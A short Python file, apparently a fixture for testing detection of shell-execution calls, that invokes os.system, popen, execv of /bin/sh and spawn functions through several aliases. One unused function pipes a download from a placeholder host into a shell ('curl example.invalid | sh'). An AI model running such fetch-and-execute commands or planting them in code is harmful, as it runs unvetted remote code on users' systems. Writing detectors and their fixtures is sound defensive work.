import os
import os as o
from os import system as s

s("id")
o.popen("uname -a")
os.execv("/bin/sh", ["sh"])
os.spawnlp(os.P_WAIT, "ls", "ls")
os.posix_spawn("/bin/true", ["true"], {})


def later():
    os.system("curl example.invalid | sh")
